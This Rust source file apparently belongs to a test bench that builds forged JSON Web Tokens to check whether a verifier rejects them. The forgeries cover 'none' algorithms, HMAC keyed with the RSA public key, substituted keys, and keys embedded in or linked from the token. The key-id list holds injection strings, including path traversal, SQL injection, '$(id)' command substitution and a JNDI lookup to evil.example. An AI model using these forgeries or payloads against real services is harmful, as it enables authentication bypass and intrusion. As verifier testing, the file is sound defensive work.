//! Headers with a false algorithm, type, key or critical extension.

use aws_lc_rs::{
    hmac,
    signature::{
        RSA_PKCS1_SHA384, RSA_PKCS1_SHA512, RSA_PSS_SHA256, RSA_PSS_SHA384, RSA_PSS_SHA512,
        RsaEncoding,
    },
};
use data_encoding::BASE64;
use serde_json::{Value, json};

use super::{Bench, changed};
use crate::key::{encoded, joined, sign_with_secret};

/// Other algorithms that an RSA key can sign with.
const ALGORITHMS: [(&str, &dyn RsaEncoding); 5] = [
    ("RS384", &RSA_PKCS1_SHA384),
    ("RS512", &RSA_PKCS1_SHA512),
    ("PS256", &RSA_PSS_SHA256),
    ("PS384", &RSA_PSS_SHA384),
    ("PS512", &RSA_PSS_SHA512),
];

impl Bench<'_> {
    pub fn header(&mut self) -> anyhow::Result<()> {
        self.no_algorithm()?;
        self.secret_of_public_parts()?;
        self.other_algorithms()?;
        self.types_and_extensions()?;
        self.other_keys()?;
        self.key_ids()?;
        self.brought_keys()
    }

    fn no_algorithm(&mut self) -> anyhow::Result<()> {
        let spellings = [
            "none", "None", "NONE", "nOnE", "noNe", "none ", " none", "none\0", "", "null",
            "\"none\"",
        ]
        .map(|alg| Some(json!(alg)));
        let others = [
            None,
            Some(Value::Null),
            Some(json!(0)),
            Some(json!(false)),
            Some(json!(["RS256"])),
            Some(json!({ "alg": "RS256" })),
        ];
        for alg in spellings.into_iter().chain(others) {
            let header = changed(self.good_header(), "alg", alg.clone());
            let signed = joined(&header, &self.kind.claims());
            self.add("no algorithm", format!("{alg:?}, no signature"), format!("{signed}."));
            self.add("no algorithm", format!("{alg:?}, no signature part"), signed.clone());
            self.add(
                "no algorithm",
                format!("{alg:?}, made-up signature"),
                format!("{signed}.{}", encoded([7; 256])),
            );
            self.add("no algorithm", format!("{alg:?}, signed"), self.key.sign(&signed)?);
        }
        Ok(())
    }

    /// The public key as an HMAC secret, in every form that a verifier may receive it in.
    fn secret_of_public_parts(&mut self) -> anyhow::Result<()> {
        let (spki, pkcs1) = (self.key.spki()?, self.key.pkcs1());
        let lines = |der: &[u8]| {
            BASE64
                .encode(der)
                .as_bytes()
                .chunks(64)
                .map(String::from_utf8_lossy)
                .collect::<Vec<_>>()
                .join("\n")
        };
        let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----", lines(&spki));
        let pem1 = format!(
            "-----BEGIN RSA PUBLIC KEY-----\n{}\n-----END RSA PUBLIC KEY-----\n",
            lines(&pkcs1)
        );
        let secrets: [(&str, Vec<u8>); 10] = [
            ("PEM", pem.clone().into()),
            ("PEM and a line feed", format!("{pem}\n").into()),
            ("PEM of PKCS #1", pem1.into()),
            ("DER", spki),
            ("DER of PKCS #1", pkcs1),
            ("modulus as encoded", self.key.modulus().into()),
            ("modulus", data_encoding::BASE64URL_NOPAD.decode(self.key.modulus().as_bytes())?),
            ("JWK", self.key.jwk.to_string().into()),
            ("key id", self.key.kid.clone().into()),
            ("nothing", Vec::new()),
        ];
        for (alg, algorithm) in [
            ("HS256", hmac::HMAC_SHA256),
            ("HS384", hmac::HMAC_SHA384),
            ("HS512", hmac::HMAC_SHA512),
        ] {
            let header = changed(self.good_header(), "alg", Some(json!(alg)));
            for (what, secret) in &secrets {
                let token =
                    sign_with_secret(algorithm, secret, &joined(&header, &self.kind.claims()));
                self.add("public key as a secret", format!("{alg} with {what}"), token);
            }
            let token = sign_with_secret(
                algorithm,
                &secrets[0].1,
                &joined(&self.good_header(), &self.kind.claims()),
            );
            self.add("public key as a secret", format!("{alg} declared as RS256"), token);
        }
        Ok(())
    }

    fn other_algorithms(&mut self) -> anyhow::Result<()> {
        for (alg, algorithm) in ALGORITHMS {
            let header = changed(self.good_header(), "alg", Some(json!(alg)));
            let token = self.key.sign_with(algorithm, &joined(&header, &self.kind.claims()))?;
            self.add("another algorithm", alg, token);
            let token =
                self.key.sign_with(algorithm, &joined(&self.good_header(), &self.kind.claims()))?;
            self.add("another algorithm", format!("{alg} declared as RS256"), token);
        }
        for kid in [self.key.kid.clone(), self.elliptic.kid.clone()] {
            for alg in ["ES256", "RS256"] {
                let header = json!({ "alg": alg, "kid": kid });
                let token = self.elliptic.sign(&joined(&header, &self.kind.claims()))?;
                let class = if alg == "RS256" && kid == self.elliptic.kid {
                    "unknown key"
                } else {
                    "another algorithm"
                };
                self.add(class, format!("{alg} by an elliptic key with id {kid}"), token);
            }
        }
        for alg in [
            "rs256",
            "Rs256",
            "RS256 ",
            " RS256",
            "RS-256",
            "RS2567",
            "ES256",
            "ES384",
            "EdDSA",
            "HS256",
            "RSA",
            "SHA256withRSA",
        ] {
            self.add_field("another algorithm", "alg", Some(json!(alg)))?;
        }
        Ok(())
    }

    fn types_and_extensions(&mut self) -> anyhow::Result<()> {
        let types = [
            "at+jwt",
            "application/jwt",
            "JOSE",
            "dpop+jwt",
            "logout+jwt",
            "secevent+jwt",
            "",
            "JWT ",
        ]
        .map(|kind| json!(kind));
        for kind in types.into_iter().chain([json!(null), json!(1), json!(["JWT"])]) {
            self.add_field("another type", "typ", Some(kind))?;
        }
        for crit in [
            json!(["exp"]),
            json!(["b64"]),
            json!(["x"]),
            json!([]),
            json!(["alg", "kid"]),
            json!("exp"),
            json!(null),
            json!({}),
            json!(1),
        ] {
            self.add_field("critical extension", "crit", Some(crit))?;
        }
        let unencoded =
            json!({ "alg": "RS256", "kid": self.key.kid, "b64": false, "crit": ["b64"] });
        let signed = format!("{}.{}", encoded(unencoded.to_string()), self.kind.claims());
        let token = self.key.sign(&signed)?;
        self.add("critical extension", "b64 false, as RFC 7797 has it", token);
        Ok(())
    }

    /// Valid except for the signing key.
    fn other_keys(&mut self) -> anyhow::Result<()> {
        for (signer, kid) in [
            (self.stranger, &self.key.kid),
            (self.other, &self.key.kid),
            (self.key, &self.other.kid),
        ] {
            let token =
                signer.token(&json!({ "alg": "RS256", "kid": kid }), &self.kind.claims())?;
            self.add("another key", format!("signed by {} as {kid}", signer.kid), token);
        }
        let token = self
            .stranger
            .token(&json!({ "alg": "RS256", "kid": self.stranger.kid }), &self.kind.claims())?;
        self.add("unknown key", "a stranger's", token);
        Ok(())
    }

    fn key_ids(&mut self) -> anyhow::Result<()> {
        for kid in [
            None,
            Some(json!(null)),
            Some(json!("")),
            Some(json!(0)),
            Some(json!(true)),
            Some(json!(["first"])),
            Some(json!({ "first": 1 })),
        ] {
            self.add_field("no key id", "kid", kid)?;
        }
        let kids = [
            "FIRST",
            "First",
            " first",
            "first ",
            "first\0",
            "first\n",
            "first%00",
            "first#",
            "first/../first",
            "firs",
            "firstt",
            "*",
            "first*",
            "../../../../../../dev/null",
            "/dev/null",
            "C:\\Windows\\win.ini",
            "file:///etc/passwd",
            "' OR '1'='1",
            "first' --",
            "x' UNION SELECT 'first",
            "$(id)",
            "`id`",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "https://evil.example/jwks.json",
            "0",
            "-1",
            "__proto__",
            "null",
            "\u{ff46}irst",
            "first\u{200b}",
            "%66irst",
        ];
        for kid in kids {
            self.add_field("unknown key", "kid", Some(json!(kid)))?;
        }
        self.add_field("unknown key", "kid", Some(json!("first".repeat(800))))
    }

    /// A stranger's key, contained in the token or linked from it.
    fn brought_keys(&mut self) -> anyhow::Result<()> {
        let chain = json!([BASE64.encode(&self.stranger.spki()?)]);
        let brought = [
            ("jwk", self.stranger.jwk.clone()),
            ("jwk", changed(self.stranger.jwk.clone(), "kid", Some(json!(self.key.kid)))),
            ("jwk", json!({ "kty": "oct", "k": "AAAA" })),
            ("jku", json!("https://evil.example/jwks.json")),
            ("jku", json!("http://127.0.0.1:1/jwks.json")),
            ("jku", json!("https://cognito-idp.eu-north-1.amazonaws.com@evil.example/jwks.json")),
            ("x5u", json!("https://evil.example/chain.pem")),
            ("x5c", chain),
            ("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA")),
            ("x5t#S256", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")),
            ("keys", json!([self.stranger.jwk])),
        ];
        for (field, value) in brought {
            for (class, kid) in [
                ("brought key", Some(&self.key.kid)),
                ("brought key", None),
                ("unknown key", Some(&self.stranger.kid)),
            ] {
                let header =
                    changed(json!({ "alg": "RS256", "kid": kid }), field, Some(value.clone()));
                let header = if kid.is_none() { changed(header, "kid", None) } else { header };
                let token = self.stranger.token(&header, &self.kind.claims())?;
                self.add(class, format!("{field} with key id {kid:?}"), token);
            }
        }
        Ok(())
    }
}
